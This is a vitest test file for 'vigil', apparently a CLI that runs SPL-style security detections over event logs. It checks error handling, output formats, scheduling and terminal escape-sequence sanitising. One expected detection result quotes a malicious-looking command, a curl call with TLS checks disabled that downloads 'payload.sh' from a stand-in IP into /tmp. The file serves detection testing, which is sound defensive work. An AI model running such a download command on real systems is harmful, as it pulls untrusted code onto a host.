import { spawnSync } from 'node:child_process';
import { closeSync, existsSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';

/** The CLI as users run it: `bin/vigil.js` over the compiled dist/ (`npm test` builds first). */
const ROOT = join(import.meta.dirname, '..', '..');
const BIN = join(ROOT, 'bin', 'vigil.js');
const DATA = join(ROOT, 'attack_data', 'datasets', 'cisco_isovalent', 'cisco_isovalent.log');
const SEED = 'Cisco Isovalent - Curl Execution With Insecure Flags';
const tmp = mkdtempSync(join(tmpdir(), 'vigil-cli-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function vigil(args: string[], input?: string) {
  const r = spawnSync(process.execPath, [BIN, ...args], { input, encoding: 'utf8', cwd: ROOT, env: { ...process.env, NO_COLOR: '1' } });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
const jsonl = (s: string) => s.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

describe('vigil CLI', () => {
  it('prints help and exits 0', () => {
    const r = vigil(['--help']);
    expect(r.code).toBe(0);
    expect(r.out).toContain('run [options] [detection...]');
    expect(r.out).toContain('Exit codes: 0 success (also with no results); 2 a usage, SPL or content error; 1 anything else');
  });

  it("reports commander's usage errors on one line with their code and the command's help", () => {
    expect(vigil(['run', '--evnts', DATA, '--all'])).toMatchObject({
      code: 2,
      err: "vigil: unknown option '--evnts' (did you mean --events?); see vigil run --help [USAGE]\n",
    });
    expect(vigil(['serch', 'x'])).toMatchObject({ code: 2, err: "vigil: unknown command 'serch' (did you mean search?); see vigil --help [USAGE]\n" });
    expect(vigil(['run', '--all', '--events', DATA, '--format', 'xml']).err).toBe(
      "vigil: option '--format <format>' argument 'xml' is invalid. Allowed choices are table, jsonl, json, csv; see vigil run --help [USAGE]\n",
    );
  });

  it('replaces the control characters of any input an error quotes (a zone, a path, an option, a search line), keeping line ends and the tabs the caret lines up with', () => {
    // Found by an outside review: only detection names went through printable; an ESC sequence in --tz, --config,
    // --data-dir, an unknown option or command, or the search line under an SPL error reached the terminal.
    const ESC = '\u001b[31m';
    const cases: [string[], string][] = [
      [['search', '--tz', `${ESC}X`, '| makeresults'], 'vigil: --tz: unknown time zone "\ufffd[31mX" (use an IANA name such as UTC or Europe/Berlin) [USAGE]\n'],
      [['search', '--config', join(tmp, `${ESC}X`), '| makeresults'], `vigil: cannot read config file ${join(tmp, '\ufffd[31mX')}: no such file or directory [CONFIG]\n`],
      [[`${ESC}X`], "vigil: unknown command '\ufffd[31mX'; see vigil --help [USAGE]\n"],
      [['search', `--${ESC}X`, '| makeresults'], "vigil: unknown option '--\ufffd[31mX'; see vigil search --help [USAGE]\n"],
      [['search', `| makeresults | eval x="${ESC}"\t| nosuchcmd`], `vigil: unsupported command "nosuchcmd" [SPL_UNSUPPORTED_COMMAND]\n  at 1:34\n  | | makeresults | eval x="\ufffd[31m"\t| nosuchcmd\n  | ${' '.repeat(30)}\t  ^^^^^^^^^\n`],
    ];
    for (const [args, err] of cases) expect(vigil(args), args.join(' ')).toMatchObject({ code: 2, out: '', err });
  });

  it('suggests the detection a mistyped name means (a typo, not only a part of the name)', () => {
    const typo = vigil(['run', 'Cisco Isovalent - Shell Exection', '--events', DATA]);
    expect(typo).toMatchObject({ code: 2, err: 'vigil: no detection named "Cisco Isovalent - Shell Exection"; did you mean:\n  Cisco Isovalent - Shell Execution [CONTENT_NOT_FOUND]\n' });
    expect(vigil(['run', 'Curl Execution', '--events', DATA]).err).toContain('did you mean:\n  Cisco Isovalent - Curl Execution With Insecure Flags [');
    expect(vigil(['run', 'xyz', '--events', DATA]).err).toBe('vigil: no detection named "xyz" (vigil detections lists them) [CONTENT_NOT_FOUND]\n');
  });

  it('says that a correlation search named to vigil run reads the risk index, which no --events file is in (README)', () => {
    const r = vigil(['run', 'Risk - Threshold Exceeded For Object Over 24 Hours', '--events', DATA]);
    expect(r).toMatchObject({ code: 0, out: '' });
    expect(r.err).toBe(
      'vigil: warning: "Risk - Threshold Exceeded For Object Over 24 Hours" is a correlation search over the risk index (index=risk), which --events files are not in: run it over vigil serve\'s store with vigil backfill --detection, or its search with vigil search --data-dir\n',
    );
  });

  it('names a --content directory that does not exist with CONTENT_NOT_FOUND (docs/errors.md)', () => {
    const missing = join(tmp, 'no-such-content');
    expect(vigil(['run', SEED, '--content', missing, '--events', DATA])).toMatchObject({
      code: 2,
      err: `vigil: content has errors:\n  ${missing}: content directory not found [CONTENT_NOT_FOUND]\n`,
    });
  });

  it('refuses a --now outside the years 1000 to 9999 UTC with a USAGE error (20 digits ran, printing a _time of year 3e12)', () => {
    for (const now of ['99999999999999999999', '253402300800', '9999-12-31T23:30:00-01:00']) {
      const r = vigil(['search', '| makeresults', '--now', now]);
      expect(r.code, now).toBe(2);
      expect(r.err, now).toMatch(/^vigil: --now must be a time from 1000-01-01 to 9999-12-31 UTC \(epoch seconds -30610224000 to 253402300799\), not \d+ \[USAGE\]\n$/);
    }
    expect(jsonl(vigil(['search', '| makeresults', '--now', '253402300799']).out)).toEqual([{ _time: '9999-12-31T23:59:59.000000+00:00' }]);
    // --from/--to/--since too (schedule --to 99999999999999 listed runs until year 3e6: it did not end).
    expect(vigil(['schedule', '--from', '99999999999999'])).toMatchObject({ code: 2, err: expect.stringContaining('--from must be a time from 1000-01-01') });
  });

  it('reads an ISO --now without an offset in --tz, whatever the process zone (TZ=UTC here)', () => {
    const r = spawnSync(process.execPath, [BIN, 'search', '| makeresults | eval t=_time | table t', '--now', '2026-12-06T02:00:00', '--tz', 'America/New_York'], {
      encoding: 'utf8',
      cwd: ROOT,
      env: { ...process.env, TZ: 'UTC' },
    });
    expect(jsonl(r.stdout)).toEqual([{ t: Date.parse('2026-12-06T07:00:00Z') / 1000 }]);
  });

  it('runs the seed detection and prints JSON lines when piped', () => {
    const r = vigil(['run', SEED, '--events', DATA]);
    expect(r.code).toBe(0);
    const rows = jsonl(r.out);
    expect(rows.map((x) => x['pod_name'])).toEqual(['debug-toolbox', 'debug-toolbox', 'frontend-6d8f9c7b5-x2kqp', 'payments-api-7f9d4c8b6-m3n8z']);
    expect(rows[2]).toMatchObject({ process_name: 'curl', count: 1, firstTime: '2026-11-20T10:05:00', process: '/usr/bin/curl -sSLk https://198.51.100.23/payload.sh -o /tmp/p.sh' });
  });

  it('prints risk events with --risk', () => {
    const r = vigil(['run', SEED, '--events', DATA, '--risk', '--now', '2026-11-20T11:00:00Z']);
    const rows = jsonl(r.out);
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      _time: '2026-11-20T11:00:00.000000+00:00',
      risk_object: 'debug-toolbox',
      risk_object_type: 'system',
      risk_score: 45,
      threat_object: 'curl',
      threat_object_type: 'process_name',
      risk_message: 'A curl execution with insecure flags has been detected on pod_name [debug-toolbox] in the cluster [prod-eu-1]',
      'annotations.mitre_attack': 'T1105',
      'annotations.mitre_attack.mitre_tactic': 'command-and-control',
      'annotations.mitre_attack.mitre_tactic_id': 'TA0011',
      search_name: SEED,
    });
  });

  it('supports csv and json formats', () => {
    const csv = vigil(['run', SEED, '--events', DATA, '--format', 'csv']);
    expect(csv.out.split('\n')[0]).toBe('cluster_name,pod_name,parent_process_name,process_name,process_exec,process_id,node_name,count,firstTime,lastTime,process');
    const json = JSON.parse(vigil(['run', SEED, '--events', DATA, '--format', 'json']).out) as unknown[];
    expect(json).toHaveLength(4);
    // No results: an empty CSV (it was one empty line, which reads as an empty record), an empty JSON array.
    expect(vigil(['search', '| makeresults | where 1=2', '--format', 'csv'])).toMatchObject({ code: 0, out: '' });
    expect(vigil(['search', '| makeresults | where 1=2', '--format', 'json']).out.trim()).toBe('[]');
  });

  it('reads stdin and gzip', () => {
    const data = readFileSync(DATA);
    expect(jsonl(vigil(['run', SEED, '--events', '-'], data.toString()).out)).toHaveLength(4);
    writeFileSync(join(tmp, 'e.jsonl.gz'), gzipSync(data));
    expect(jsonl(vigil(['run', SEED, '--events', join(tmp, 'e.jsonl.gz')]).out)).toHaveLength(4);
  });

  it('reports malformed lines with file:line and keeps going', () => {
    const f = join(tmp, 'bad.jsonl');
    writeFileSync(f, `{"broken": \n${readFileSync(DATA, 'utf8')}`);
    const r = vigil(['search', 'sourcetype=* | stats count', '--events', f]);
    expect(r.code).toBe(0);
    expect(r.err).toContain(`skipped ${f}:1: not JSON`);
    expect(r.err).toContain('1 malformed line skipped');
    expect(jsonl(r.out)).toEqual([{ count: 31 }]);
  });

  it('exits 0 with zero results', () => {
    const r = vigil(['search', 'process_name=nothing-like-this', '--events', DATA]);
    expect(r.code).toBe(0);
    expect(r.out).toBe('');
  });

  it('runs generating searches without --events or a store', () => {
    const noStore = join(tmp, 'no-store');
    const made = vigil(['search', '| makeresults count=2 | eval x=1 | table x', '--data-dir', noStore]);
    expect(made.err).toBe('');
    expect(made.code).toBe(0);
    expect(jsonl(made.out)).toEqual([{ x: 1 }, { x: 1 }]);
    const content = join(tmp, 'lookup-content');
    mkdirSync(join(content, 'lookups'), { recursive: true });
    writeFileSync(join(content, 'lookups', 'hosts.csv'), 'host,n\na,1\nb,2\n');
    const looked = vigil(['search', '| inputlookup hosts.csv | where n > 1', '--content', content, '--data-dir', noStore]);
    expect(looked.code).toBe(0);
    expect(jsonl(looked.out)).toEqual([{ host: 'b', n: '2' }]);
    // A search that reads events still says where they would come from.
    const reads = vigil(['search', 'index=main | stats count', '--data-dir', noStore]);
    expect(reads.code).toBe(2);
    expect(reads.err).toContain('no events to search');
    // --explain reads none: it shows the plan (as README's example runs it, without a source).
    const explained = vigil(['search', 'index=main curl | stats count', '--data-dir', noStore, '--explain']);
    expect(explained.code, explained.err).toBe(0);
    expect(explained.out).toContain('raw prefilter: "curl"');
    expect(explained.out).toContain('parallel: per partition: scan, leading search, stats (partial state); final: merge stats');
    // --index and --sourcetype set a file's events' fields; over the store they would be ignored, so they are refused.
    for (const flag of ['--index', '--sourcetype']) {
      expect(vigil(['search', 'index=main | stats count', '--data-dir', noStore, flag, 'x']), flag).toMatchObject({ code: 2, err: expect.stringContaining(`${flag} applies to --events`) });
    }
  });

  it('reads the store for a generating search whose subsearches read events, as over files', async () => {
    // `| union [| tstats ...] [...]`, `| makeresults | append [| tstats ...]` over --data-dir failed with
    // 'this search reads events but no event source was given': the store was opened only for searches not generating.
    const dataDir = join(tmp, 'generating-data');
    const { openStore } = await import('../../src/store/sqlite-store.js');
    const { datasetEvents } = await import('../schedule/fakes.js');
    const store = await openStore(dataDir);
    await store.append(datasetEvents('datasets/cisco_isovalent/cisco_isovalent.log'));
    await store.close();
    const lines = readFileSync(DATA, 'utf8').split('\n').filter((l) => l.trim() !== '');
    const execs = lines.filter((l) => 'process_exec' in (JSON.parse(l) as Record<string, unknown>)).length;
    expect(execs).toBeGreaterThan(0);
    const spls = [
      '| union [| tstats count as p from datamodel=Endpoint.Processes] [search index=main | stats count as e]',
      '| makeresults | eval x=1 | append [| tstats count as p from datamodel=Endpoint.Processes] | table x p',
    ];
    const expected = [[{ p: execs }, { e: lines.length }], [{ x: 1 }, { p: execs }]];
    for (const [i, spl] of spls.entries()) {
      const stored = vigil(['search', spl, '--data-dir', dataDir, '--now', '1795219200']);
      expect(stored.err, spl).toBe('');
      expect(jsonl(stored.out).map(({ _time, ...r }) => r), spl).toEqual(expected[i]);
      expect(stored.out, spl).toBe(vigil(['search', spl, '--events', DATA, '--now', '1795219200']).out);
    }
  });

  it("prints the engine's warnings on stderr, each once, with where they were raised", () => {
    // PCRE runs \K (reset the match start), vigil cannot: match() is null on both rows and says so once, at `p`.
    const spl = '| makeresults count=2 | eval p="a\\Kb", m=if(match("ab", p), "y", "n") | table m';
    const r = vigil(['search', spl, '--data-dir', join(tmp, 'no-store')]);
    expect(r.code).toBe(0);
    expect(jsonl(r.out)).toEqual([{ m: 'n' }, { m: 'n' }]);
    const lines = r.err.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^vigil: warning: match\(\) is null where a row's pattern cannot be run .*"\\\\K"/);
    expect(lines[0]!.endsWith(` (at 1:${spl.indexOf('p)') + 1})`)).toBe(true);
    // vigil run too, naming the detection when several run.
    const content = join(tmp, 'warning-content');
    mkdirSync(join(content, 'detections'), { recursive: true });
    const search = 'index=* | head 1 | eval p="a\\Kb", m=if(match("ab", p), "y", "n") | table m';
    writeFileSync(join(content, 'detections', 'w.yml'), `name: W\nid: 11111111-2222-4333-8444-666666666666\ntype: TTP\nsearch: |-\n  ${search}\n`);
    const one = vigil(['run', 'W', '--events', DATA, '--content', content]);
    expect(one.code).toBe(0);
    expect(jsonl(one.out)).toEqual([{ m: 'n' }]);
    expect(one.err).toMatch(new RegExp(`^vigil: warning: match\\(\\) is null where a row's pattern cannot be run [^\\n]* \\(at 1:${search.indexOf('p)') + 1}\\)\\n$`));
    const two = vigil(['run', 'W', SEED, '--events', DATA, '--content', content]);
    expect(two.code).toBe(0);
    expect(two.err.trimEnd().split('\n')).toHaveLength(1);
    expect(two.err).toMatch(/ \(at 1:\d+\) in W\n$/);
  });

  it('lists, creates and deletes indexes of a data dir', () => {
    const dataDir = join(tmp, 'indexes-data');
    const created = vigil(['indexes', 'create', 'web', '--data-dir', dataDir]);
    expect([created.code, created.out]).toEqual([0, 'created index web\n']);
    expect(vigil(['indexes', 'create', 'web', '--data-dir', dataDir]).out).toBe('index web already exists\n');
    expect(jsonl(vigil(['indexes', 'list', '--data-dir', dataDir]).out).map((r) => r['name'])).toEqual(['main', 'notable', 'risk', 'web']);
    const deleted = vigil(['indexes', 'delete', 'web', '--data-dir', dataDir]);
    expect([deleted.code, deleted.out]).toEqual([0, 'deleted index web and its 0 event(s)\n']);
    expect(jsonl(vigil(['indexes', 'list', '--data-dir', dataDir]).out).map((r) => r['name'])).toEqual(['main', 'notable', 'risk']);
    const reserved = vigil(['indexes', 'delete', 'risk', '--data-dir', dataDir]);
    expect([reserved.code, reserved.err]).toEqual([2, 'vigil: index risk is reserved and cannot be deleted [USAGE]\n']);
    expect(vigil(['indexes', 'delete', 'web', '--data-dir', dataDir]).code).toBe(2);
    expect(vigil(['indexes', 'create', 'Web', '--data-dir', dataDir]).code).toBe(2);
  });

  it('exits 2 on SPL errors with line:column and a caret', () => {
    const r = vigil(['search', 'process_name=curl\n| kmeans pod_name', '--events', DATA]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('unsupported command "kmeans" [SPL_UNSUPPORTED_COMMAND]');
    expect(r.err).toContain('at 2:3');
    expect(r.err).toContain('  |   ^^^^^^\n');
  });

  it('exits 2 with SPL_TOO_DEEP on 10k nested parentheses (not a stack overflow)', () => {
    const r = vigil(['search', `| makeresults | eval x=${'('.repeat(10_000)}1${')'.repeat(10_000)}`]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('[SPL_TOO_DEEP]');
    expect(r.err).toContain('at 1:280');
  });

  it('exits 2 on an unknown detection and on bad usage, 1 on unreadable input', () => {
    expect(vigil(['run', 'No Such Detection', '--events', DATA]).code).toBe(2);
    expect(vigil(['run', SEED]).code).toBe(2);
    expect(vigil(['run', SEED, '--events', DATA, '--format', 'xml']).code).toBe(2);
    const missing = vigil(['run', SEED, '--events', join(tmp, 'missing.jsonl')]);
    expect(missing.code).toBe(1);
    expect(missing.err).toContain('INPUT_IO');
  });

  it('lists detections, enabled as vigil serve schedules them (its config, then its console toggles)', () => {
    type Listed = { name: string; id: string; enabled: boolean; schedule: string };
    const list = (...args: string[]) => JSON.parse(vigil(['detections', '--format', 'json', ...args]).out) as Listed[];
    const rows = list();
    expect(rows).toHaveLength(12);
    // The default config runs the bundled pack and the risk rules (their YAML says disabled, as upstream ships it).
    expect(rows.find((d) => d.name === SEED)).toMatchObject({ enabled: true, schedule: '0 * * * * [-70m@m, -10m@m)' });
    expect(rows.every((d) => d.enabled === true)).toBe(true);
    // A boolean in JSON, as the API's and vigil validate's (it was the text "true"); text in a table or CSV.
    expect(jsonl(vigil(['detections', '--format', 'jsonl']).out).map((d) => d['enabled'])).toEqual(rows.map(() => true));
    expect(vigil(['detections', '--format', 'csv']).out.split('\n')[1]).toMatch(/,true,/);
    const dataDir = join(tmp, 'listed-data');
    mkdirSync(dataDir, { recursive: true });
    const config = join(tmp, 'listed.yml');
    writeFileSync(config, [`dataDir: ${dataDir}`, 'detections: { disable: ["Cisco Isovalent - Shell*"] }'].join('\n'));
    const configured = list('--config', config);
    expect(configured.filter((d) => d.enabled === false).map((d) => d.name)).toEqual(['Cisco Isovalent - Shell Execution']);
    // A console toggle (the data dir's detections.yml) wins over the config's patterns.
    writeFileSync(join(dataDir, 'detections.yml'), `disable: [${rows.find((d) => d.name === SEED)!.id}]\nenable: [${configured.find((d) => d.enabled === false)!.id}]\n`);
    expect(list('--config', config).filter((d) => d.enabled === false).map((d) => d.name)).toEqual([SEED]);
  });

  it('schedule lists a realtime detection’s tumbling windows, each starting once its grace has passed', () => {
    const config = join(tmp, 'realtime.yml');
    writeFileSync(config, [`dataDir: ${join(tmp, 'rt-data')}`, 'schedule: { realtime_window: 5s, realtime_grace: 2s }', `detections: { enable: ["${SEED}"], realtime: ["${SEED}"] }`].join('\n'));
    const r = vigil(['schedule', '--config', config, '--from', '2026-12-06T03:00:00Z', '--to', '2026-12-06T03:00:12Z', '--detection', SEED, '--format', 'jsonl']);
    expect(r.code).toBe(0);
    // As the scheduler runs it (README "Scheduled detections": tumbling windows of realtime_window), not the cron's hourly runs.
    expect(jsonl(r.out)).toEqual([
      { scheduled: '2026-12-06T03:00:05+00:00', detection: SEED, starts: '2026-12-06T03:00:07+00:00', earliest: '2026-12-06T03:00:00+00:00', latest: '2026-12-06T03:00:05+00:00' },
      { scheduled: '2026-12-06T03:00:10+00:00', detection: SEED, starts: '2026-12-06T03:00:12+00:00', earliest: '2026-12-06T03:00:05+00:00', latest: '2026-12-06T03:00:10+00:00' },
    ]);
  });

  it('schedule refuses a period holding more runs than --max-runs (USAGE, nothing printed) and lists one within it exactly', () => {
    const H = 3600;
    const at = (t: number) => new Date(t * 1000).toISOString().replace('.000Z', '+00:00');
    // SEED runs hourly (0 * * * *): from 2026-12-06 to 9999-12-30 about 70 million runs (the hours between them).
    const hours = (Date.UTC(9999, 11, 30) - Date.UTC(2026, 11, 6)) / 3600_000;
    const huge = vigil(['schedule', '--from', '2026-12-06T00:00:00Z', '--to', '9999-12-30', '--detection', SEED, '--max-runs', '1000']);
    expect(huge).toMatchObject({ code: 2, out: '' });
    expect(huge.err).toBe(`vigil: the period holds more than 1000 runs (about ${Number(hours.toPrecision(2))}) (--max-runs); narrow --from/--to, name detections with --detection, or raise --max-runs [USAGE]\n`);
    // Every enabled detection, at the default limit.
    expect(vigil(['schedule', '--from', '2026-12-06T00:00:00Z', '--to', '9999-12-30'])).toMatchObject({ code: 2, out: '', err: expect.stringContaining('more than 100000 runs') });
    expect(vigil(['schedule', '--max-runs', '1e3'])).toMatchObject({ code: 2, err: 'vigil: --max-runs must be a positive integer, not "1e3" [USAGE]\n' });
    // An unknown --detection is echoed with its control characters replaced, as vigil run does (outside review).
    expect(vigil(['schedule', '--detection', 'bad\u001b[31mname'])).toMatchObject({ code: 2, out: '', err: 'vigil: no detection named "bad\ufffd[31mname" (vigil detections lists them) [CONTENT_NOT_FOUND]\n' });
    // (00:00, 03:00]: 01:00, 02:00, 03:00, each searching [-70m@m, -10m@m); three runs fit a limit of 3, not of 2.
    const T = Date.UTC(2026, 11, 6) / 1000;
    const args = ['schedule', '--from', '2026-12-06T00:00:00Z', '--to', '2026-12-06T03:00:00Z', '--detection', SEED, '--format', 'jsonl'];
    const listed = vigil([...args, '--max-runs', '3']);
    expect(listed.code).toBe(0);
    const rows = jsonl(listed.out);
    expect(rows.map(({ starts: _, ...r }) => r)).toEqual(
      [1, 2, 3].map((h) => ({ scheduled: at(T + h * H), detection: SEED, earliest: at(T + h * H - 70 * 60), latest: at(T + h * H - 10 * 60) })),
    );
    // schedule_window auto: a start spread over at most a quarter of the hour, the same offset every hour.
    const delays = rows.map((r, i) => Date.parse(String(r['starts'])) / 1000 - (T + (i + 1) * H));
    expect(delays.every((d) => d === delays[0] && d >= 0 && d <= 15 * 60)).toBe(true);
    expect(vigil([...args, '--max-runs', '2'])).toMatchObject({ code: 2, out: '', err: expect.stringContaining('the period holds more than 2 runs (about 3)') });
  });

  it('validates content and fails on a broken detection', () => {
    expect(vigil(['validate']).code).toBe(0);
    const dir = join(tmp, 'broken');
    mkdirSync(join(dir, 'detections'), { recursive: true });
    writeFileSync(join(dir, 'detections', 'b.yml'), 'name: B\nid: 11111111-2222-4333-8444-555555555555\ntype: TTP\nsearch: "index=main | frobnicate"\n');
    const r = vigil(['validate', '--content', dir]);
    expect(r.code).toBe(2);
    expect(r.out).toMatch(/b\.yml:4:\d+: error: search: unsupported command "frobnicate"/);
    // A problem of the whole file names the file alone (it printed file:0:0).
    mkdirSync(join(dir, 'lookups'), { recursive: true });
    writeFileSync(join(dir, 'lookups', 'notes.txt'), 'not a lookup');
    const whole = vigil(['validate', '--content', dir]);
    expect(whole.out).toMatch(/lookups[/\\]notes\.txt: warning: not a CSV lookup/);
    expect(whole.out).not.toContain(':0:0');
  });

  it('runs the bundled tests, prints the summary and writes JUnit', () => {
    const junit = join(tmp, 'junit.xml');
    const r = vigil(['test', '--junit', junit]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/10 passed, 0 failed in \d+\.\d\d s/);
    expect(readFileSync(junit, 'utf8')).toContain('tests="10" failures="0" errors="0"');
    // A report that cannot be written, and a --jobs that is not digits, are refused before any test runs.
    const nowhere = vigil(['test', '--junit', join(tmp, 'no-such-dir', 'junit.xml')]);
    expect(nowhere).toMatchObject({ code: 2, out: '', err: expect.stringContaining('--junit: the directory') });
    for (const jobs of ['1e3', '0x2', '0']) expect(vigil(['test', '--jobs', jobs]), jobs).toMatchObject({ code: 2, out: '' });
  });

  it('--junit - writes the JUnit XML on stdout, the text report on stderr, and no file named -', () => {
    const dir = mkdtempSync(join(tmp, 'junit-stdout-'));
    const r = spawnSync(process.execPath, [BIN, 'test', SEED, '--junit', '-'], { cwd: dir, encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(r.stdout.startsWith('<?xml')).toBe(true);
    expect(r.stdout).toMatch(/<testsuites [^>]*tests="1" failures="0" errors="0"/);
    expect(r.stdout).not.toContain('passed,');
    expect(r.stderr).toMatch(/1 passed, 0 failed in \d+\.\d\d s/);
    expect(existsSync(join(dir, '-'))).toBe(false);
  });

  it('prints a failure reason quoting a dataset line without its control characters', () => {
    const dir = join(tmp, 'binary-data');
    mkdirSync(join(dir, 'detections'), { recursive: true });
    writeFileSync(join(dir, 'bin.log'), 'PK\u0003\u0004\u001b[31mred\n');
    writeFileSync(
      join(dir, 'detections', 'z.yml'),
      ['name: Z Binary', 'id: 11111111-2222-4333-8444-666666666666', 'type: Hunting', 'search: "index=* | stats count"', 'tests:', '- name: t', '  attack_data: [{data: ../bin.log, source: s, sourcetype: st}]'].join('\n'),
    );
    const r = vigil(['test', 'Z Binary', '--content', dir]);
    expect(r.code).toBe(1);
    expect(r.out).toContain('PK\ufffd\ufffd\ufffd[31mred');
    expect(r.out).toContain('note: 1 malformed line of the test data skipped (first: bin.log:1: not JSON');
    expect(r.out).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
  });

  it('--no-bundled tests and validates only the --content directories, their searches still on the bundled macros and data models', () => {
    const dir = join(tmp, 'own-content');
    mkdirSync(join(dir, 'detections'), { recursive: true });
    // The bundled `cisco_isovalent_process_exec` and `security_content_ctime`, and the CIM Endpoint data model.
    writeFileSync(
      join(dir, 'detections', 'own.yml'),
      [
        'name: Own Curl',
        'id: 11111111-2222-4333-8444-777777777777',
        'type: Hunting',
        'search: |',
        '  `cisco_isovalent_process_exec` process_name=curl',
        '  | stats min(_time) as firstTime by pod_name | `security_content_ctime(firstTime)`',
        '  | append [| tstats count from datamodel=Endpoint.Processes by Processes.dest | `drop_dm_object_name(Processes)`]',
        '  | `own_curl_filter`',
        'tests:',
        '- name: t',
        `  attack_data: [{data: ${DATA}, source: not_applicable, sourcetype: "cisco:isovalent:processExec"}]`,
      ].join('\n'),
    );
    const t = vigil(['test', '--no-bundled', '--content', dir]);
    expect(t.code, t.out + t.err).toBe(0);
    expect(t.out.split('\n').filter((l) => /^\S/.test(l))).toEqual(['Own Curl', '1 passed, 0 failed in ' + /in (\S+ s)/.exec(t.out)![1]]);
    const v = vigil(['validate', '--no-bundled', '--content', dir]);
    expect(v.code, v.out).toBe(0);
    expect(v.out).toContain('own.yml:5:1: Own Curl: runs on vigil');
    expect(v.out).not.toContain('Cisco Isovalent');
    expect(v.out).toMatch(/1 of 1 detections run on vigil\n1 detections, /);
  });

  it('runs tests in worker threads with --jobs and reports them in the same order', () => {
    const one = vigil(['test', '--jobs', '1']);
    const two = vigil(['test', '--jobs', '2']);
    expect(two.code).toBe(0);
    const blocks = (s: string) => s.split('\n').filter((l) => l.startsWith('Cisco Isovalent'));
    expect(blocks(two.out)).toEqual(blocks(one.out));
    expect(two.out).toMatch(/10 passed, 0 failed/);
  });

  it.skipIf(!existsSync('/dev/full'))('ends with one line and exit 1 when its output cannot be written (a full disk), with one thread or two', () => {
    for (const threads of ['1', '2']) {
      const full = openSync('/dev/full', 'w');
      try {
        const r = spawnSync(process.execPath, [BIN, 'run', '--all', '--events', DATA, '--threads', threads], { cwd: ROOT, encoding: 'utf8', stdio: ['ignore', full, 'pipe'] });
        expect(r.status, threads).toBe(1);
        expect(r.stderr.trim(), threads).toMatch(/^vigil: cannot write the output: ENOSPC[^\n]*\[OUTPUT_IO\]$/);
      } finally {
        closeSync(full);
      }
    }
  });
});
